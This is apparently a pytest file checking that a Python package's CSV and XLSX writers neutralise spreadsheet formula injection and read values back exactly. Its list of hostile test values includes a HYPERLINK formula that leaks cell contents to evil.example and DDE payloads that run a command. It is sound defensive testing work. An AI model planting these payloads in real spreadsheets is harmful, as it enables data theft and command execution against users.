"""Formula injection: no file msc_nlp writes for a spreadsheet holds a live formula, and sheets read back exactly."""
from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from msc_nlp._spreadsheet import TRIGGERS, is_risky, neutralise, restore, write_csv, write_xlsx
from msc_nlp.panels import read_selection

# Every leading character a spreadsheet may evaluate, alone, after spaces/apostrophes, and in attack shapes.
HOSTILE = [f"{c}1+1" for c in TRIGGERS] + [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "  =1+1", "\n=1+1", "'=1+1", "''=1+1", "'@x", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "=", "#N/A",
    "#DIV/0!",
]
SAFE = ["", "plain story", "-5", "+3.5", " 12 ", "'quoted'", "1=1", "e-mail: a@b.org", "'"]
LIVE = re.compile(r"[\s]*[" + re.escape(TRIGGERS) + "]")


def _starts_formula(cell: str) -> bool:
    return LIVE.match(cell) is not None and not re.fullmatch(r"\s*[+-]?\d+([.,]\d+)?\s*", cell)


@pytest.mark.parametrize("value", HOSTILE + SAFE)
def test_neutralise_and_restore_are_an_exact_pair(value: str) -> None:
    out = neutralise(value)
    assert not _starts_formula(out)
    assert restore(out) == value
    assert (out != value) == is_risky(value)


@settings(max_examples=400, deadline=None)
@given(value=st.text(max_size=12, alphabet=st.sampled_from(list(TRIGGERS) + ["'", " ", "\n", "a", "1", "."]))
       | st.text(max_size=30))
def test_round_trip_of_any_text(value: str) -> None:
    out = neutralise(value)
    assert restore(out) == value and not _starts_formula(out)


def _csv_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_csv_has_no_cell_that_starts_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=evil": HOSTILE, "n": range(len(HOSTILE)), "lst": [["=a", "b"]] * len(HOSTILE)})
    write_csv(frame, tmp_path / "x.csv")
    cells = _csv_cells(tmp_path / "x.csv")
    assert len(cells) == 3 * (len(HOSTILE) + 1) and not any(_starts_formula(c) for c in cells)
    back = pd.read_csv(tmp_path / "x.csv", dtype=object, keep_default_na=False)
    assert back.rename(columns=restore).map(restore)["=evil"].tolist() == HOSTILE


def test_xlsx_has_no_live_formula_and_keeps_values(tmp_path: Path) -> None:
    values = HOSTILE + SAFE + ["x" * 40_000, "bell\x07inside"]
    write_xlsx({"sheet": pd.DataFrame({"=col": values, "n": range(len(values))})}, tmp_path / "x.xlsx")
    ws = load_workbook(tmp_path / "x.xlsx")["sheet"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type not in ("f", "e") for c in cells)
    texts = [ws.cell(row=r, column=1).value or "" for r in range(2, len(values) + 2)]
    # XLSX keeps the value (the cell type protects it); an XML parser may read a carriage return as a line feed
    assert [t.replace("\r", "\n") for t in texts[:len(HOSTILE) + len(SAFE)]] == [v.replace("\r", "\n")
                                                                                 for v in HOSTILE + SAFE]
    assert len(texts[-2]) == 32_767 and texts[-2].endswith("[…]") and texts[-1] == "bell\ufffdinside"
    assert ws.cell(row=1, column=1).value == "=col" and ws.cell(row=1, column=1).quotePrefix
    assert all(ws.cell(row=r + 2, column=1).quotePrefix == is_risky(v) for r, v in enumerate(HOSTILE + SAFE))


def _sheet(ids: list[str], reasons: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"level": "=field", "panel": "@panel", "story_id": ids, "title": ids,
                         "selected": ["yes"] * len(ids), "votes": [3] * len(ids), "reason": reasons})


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_read_selection_round_trip_is_exact(tmp_path: Path, suffix: str) -> None:
    ids = [f"{h.strip()}-{i}" for i, h in enumerate(HOSTILE)] + ["-7", "plain"]  # ids are stripped on input
    reasons = HOSTILE + ["'", "ok"]
    path = tmp_path / f"sheet{suffix}"
    frame = _sheet(ids, reasons)
    write_csv(frame, path) if suffix == ".csv" else write_xlsx({"selection": frame}, path)
    rec = read_selection(path, ids)
    assert rec["story_id"].tolist() == ids
    assert rec["reason"].tolist() == [r.strip() for r in reasons]  # read_selection strips reasons itself
    assert set(rec["level"]) == {"=field"} and set(rec["panel"]) == {"@panel"}


@settings(max_examples=60, deadline=None)
@given(reasons=st.lists(st.text(min_size=1, max_size=20).filter(lambda s: s.strip()), min_size=1, max_size=5))
def test_any_reason_survives_a_csv_sheet(tmp_path_factory: pytest.TempPathFactory, reasons: list[str]) -> None:
    ids = [f"s{i}" for i in range(len(reasons))]
    path = tmp_path_factory.mktemp("sel") / "sheet.csv"
    write_csv(_sheet(ids, reasons), path)
    rec = read_selection(path, ids)
    assert rec["reason"].tolist() == [r.strip() for r in reasons]


@pytest.mark.parametrize("value", ["\r1.", "\t-5", "\r+3.5"])
def test_number_after_a_tab_or_carriage_return_is_still_neutralised(value: str) -> None:
    # found by hypothesis: a leading CR/tab is a trigger of its own, whatever number follows
    out = neutralise(value)
    assert out == "'" + value and restore(out) == value and not _starts_formula(out)


@pytest.mark.parametrize("space", ["\x85", "\u2028", "\u2003", "\u00a0", "\u3000"])
def test_any_unicode_space_before_a_trigger_is_neutralised(space: str) -> None:
    # found by hypothesis: NEL (U+0085) before '=' slipped through a fixed list of spaces
    value = space + "=1+1"
    out = neutralise(value)
    assert out == "'" + value and restore(out) == value and not _starts_formula(out)
